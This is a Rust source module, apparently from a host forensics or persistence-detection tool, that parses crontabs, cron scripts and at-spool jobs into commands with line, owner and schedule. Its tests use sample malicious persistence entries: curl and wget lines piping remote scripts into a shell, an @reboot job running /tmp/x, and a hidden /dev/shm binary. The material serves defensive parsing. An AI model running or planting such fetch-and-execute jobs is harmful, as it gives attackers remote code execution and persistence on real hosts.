//! Crontabs and cron scripts as a list of commands with their line, owner and schedule.
//!
//! System crontabs (`/etc/crontab`, `/etc/cron.d/*`, `/etc/anacrontab`) carry a user field;
//! spool crontabs (`/var/spool/cron/crontabs/USER`, `/var/spool/cron/USER`) run as the file's
//! user; scripts in `/etc/cron.{hourly,daily,weekly,monthly}` run as root, one command per
//! line. Jobs queued with `at` (`/var/spool/cron/atjobs/*` on Debian, `/var/spool/at/*` on
//! RHEL) are shell scripts at writes: a `# atrun uid=N gid=N` and `# mail USER N` header, the
//! submitter's environment, `cd DIR || { … }`, then the job: directly (Debian 12's at 3.2.5,
//! `tests/fixtures/host-init/root/var/spool/cron/atjobs/`), or inside a
//! `${SHELL:-/bin/sh} << 'marcinDELIMITER…'` heredoc up to that delimiter (builds that quote
//! the job); its schedule is `at`. Systemd units and timers are
//! [`super::systemd`]'s, judged once by `persistence.service`.

use super::numbered;

/// One scheduled command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Job {
    /// 1-based line.
    pub line: u64,
    /// Account it runs as.
    pub user: String,
    /// Schedule (`*/20 * * * *`, `@reboot`, `daily`).
    pub schedule: String,
    /// The command.
    pub command: String,
}

/// Whether `path` is a job of the `at` spool (not its output folder `atspool`/`spool`, nor
/// the `.SEQ` counter).
pub fn is_at_job(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    ["/var/spool/cron/atjobs/", "/var/spool/at/"]
        .iter()
        .any(|d| path.strip_prefix(d).is_some_and(|r| !r.contains('/')))
        && !name.starts_with('.')
        && !name.is_empty()
}

/// The commands of an `at` job file.
fn at_jobs(text: &str) -> Vec<Job> {
    let mut user = "root".to_string();
    let mut uid: Option<String> = None;
    let mut delimiter: Option<String> = None;
    let mut in_cd = false;
    let mut past_preamble = false;
    let mut out = Vec::new();
    for (n, l) in numbered(text) {
        let t = l.trim();
        if !past_preamble {
            if let Some(r) = t.strip_prefix("# atrun uid=") {
                uid = r.split_whitespace().next().map(str::to_string);
            } else if let Some(r) = t.strip_prefix("# mail ") {
                if let Some(u) = r.split_whitespace().next() {
                    user = u.to_string();
                }
            } else if t.starts_with("cd ") && t.ends_with('{') {
                in_cd = true;
            } else if in_cd && t == "}" {
                in_cd = false;
                past_preamble = true;
            }
            continue;
        }
        if delimiter.is_none() && t.starts_with("${SHELL:-/bin/sh} << ") {
            let d = t["${SHELL:-/bin/sh} << ".len()..].trim_matches(['\'', '"']);
            delimiter = Some(d.to_string());
            continue;
        }
        if delimiter.as_deref() == Some(t) {
            break;
        }
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        out.push(Job {
            line: n,
            user: user.clone(),
            schedule: "at".into(),
            command: t.to_string(),
        });
    }
    if user == "root" {
        if let Some(u) = uid.filter(|u| u != "0") {
            for j in &mut out {
                j.user = format!("uid {u}");
            }
        }
    }
    out
}

/// How a file at `path` is read.
fn kind(path: &str) -> Option<(bool, Option<&str>)> {
    let name = path.rsplit('/').next().unwrap_or(path);
    if path == "/etc/crontab" || path.starts_with("/etc/cron.d/") || path == "/etc/anacrontab" {
        Some((true, None))
    } else if path.starts_with("/var/spool/cron/") {
        Some((false, Some(name)))
    } else if ["hourly", "daily", "weekly", "monthly"]
        .iter()
        .any(|p| path.starts_with(&format!("/etc/cron.{p}/")))
    {
        Some((false, None))
    } else {
        None
    }
}

/// The jobs of a cron file.
pub fn jobs(path: &str, text: &str) -> Vec<Job> {
    if is_at_job(path) {
        return at_jobs(text);
    }
    if path.starts_with("/var/spool/cron/atjobs/")
        || path.starts_with("/var/spool/cron/atspool/")
        || path.starts_with("/var/spool/at/")
    {
        return Vec::new(); // at's counter and its jobs' output
    }
    let Some((system, spool_user)) = kind(path) else {
        return Vec::new();
    };
    if !system && spool_user.is_none() {
        let sched = path
            .split('/')
            .nth(2)
            .unwrap_or("cron")
            .trim_start_matches("cron.");
        return numbered(text)
            .filter(|(_, l)| {
                let t = l.trim();
                !t.is_empty() && !t.starts_with('#')
            })
            .map(|(n, l)| Job {
                line: n,
                user: "root".into(),
                schedule: sched.to_string(),
                command: l.trim().to_string(),
            })
            .collect();
    }
    let mut out = Vec::new();
    for (n, l) in numbered(text) {
        let t = l.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let first = t.split_whitespace().next().unwrap_or("");
        if first.contains('=') && !first.starts_with('*') && !first.starts_with('@') {
            continue; // environment setting
        }
        let mut fields = t.split_whitespace();
        let sched_fields = if first.starts_with('@') {
            1
        } else if path == "/etc/anacrontab" {
            3
        } else {
            5
        };
        let schedule: Vec<&str> = fields.by_ref().take(sched_fields).collect();
        if schedule.len() < sched_fields {
            continue;
        }
        let user = if system && path != "/etc/anacrontab" {
            fields.next().unwrap_or("").to_string()
        } else {
            spool_user.unwrap_or("root").to_string()
        };
        let command = fields.collect::<Vec<_>>().join(" ");
        if command.is_empty() {
            continue;
        }
        out.push(Job {
            line: n,
            user,
            schedule: schedule.join(" "),
            command,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn system_spool_and_script_jobs() {
        let sys = jobs(
            "/etc/cron.d/pf-maint",
            "# x\nSHELL=/bin/sh\n*/20 * * * * root grep -q a /etc/postfix/b || postfix reload\n@reboot root /tmp/x\n",
        );
        assert_eq!(sys.len(), 2);
        assert_eq!((sys[0].line, sys[0].user.as_str()), (3, "root"));
        assert_eq!(sys[0].command, "grep -q a /etc/postfix/b || postfix reload");
        assert_eq!(sys[1].schedule, "@reboot");
        let spool = jobs(
            "/var/spool/cron/crontabs/liwei",
            "*/30 * * * * /usr/bin/curl -fsS http://x/p.sh | /bin/sh\n",
        );
        assert_eq!(spool[0].user, "liwei");
        assert_eq!(
            spool[0].command,
            "/usr/bin/curl -fsS http://x/p.sh | /bin/sh"
        );
        let script = jobs(
            "/etc/cron.daily/x",
            "#!/bin/sh\nwget -q -O- http://x | sh\n",
        );
        assert_eq!((script[0].line, script[0].schedule.as_str()), (2, "daily"));
        assert!(jobs("/etc/passwd", "root:x:0:0").is_empty());
        // Units are no cron jobs (persistence.service reads them).
        assert!(jobs(
            "/etc/systemd/system/x.service",
            "[Service]\nExecStart=/tmp/x\n"
        )
        .is_empty());
    }

    /// A job in the heredoc shape (header, environment, `cd`, the quoted job).
    const AT_HEREDOC: &str = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nSHELL=/bin/bash; export SHELL\nHOME=/root; export HOME\nLOGNAME=root; export LOGNAME\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH\nOLDPWD=/tmp; export OLDPWD\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER2b3c1e5a'\n/dev/shm/.x/dbus-sync --daemon\n\nmarcinDELIMITER2b3c1e5a\n";

    #[test]
    fn at_spool_jobs() {
        // Written by Debian 12's at 3.2.5 (`echo … | at now + 3 hours` as root), the
        // submitter's environment cut to three variables.
        let real = include_str!(
            "../../tests/fixtures/host-init/root/var/spool/cron/atjobs/a0000101c8e785"
        );
        let j = jobs("/var/spool/cron/atjobs/a0000101c8e785", real);
        assert_eq!(j.len(), 1, "{j:?}");
        assert_eq!(
            (j[0].line, j[0].user.as_str(), j[0].schedule.as_str()),
            (12, "root", "at")
        );
        assert_eq!(j[0].command, "/dev/shm/.x/dbus-sync --daemon");
        let j = jobs("/var/spool/cron/atjobs/a00001019b2c4e", AT_HEREDOC);
        assert_eq!((j.len(), j[0].line), (1, 15), "{j:?}");
        assert_eq!(j[0].command, "/dev/shm/.x/dbus-sync --daemon");
        // Older at: the job follows the cd block directly; a non-root submitter by uid.
        let old = "#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail  liwei 0\numask 22\ncd /home/liwei || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\ncurl -s http://203.0.113.77/a | sh\n";
        let j = jobs("/var/spool/at/a0000201a2b3c4", old);
        assert_eq!((j[0].line, j[0].user.as_str()), (9, "liwei"));
        assert!(jobs("/var/spool/cron/atjobs/.SEQ", "3\n").is_empty());
        assert!(jobs("/var/spool/cron/atspool/a00001019b2c4e", "out\n").is_empty());
    }
}
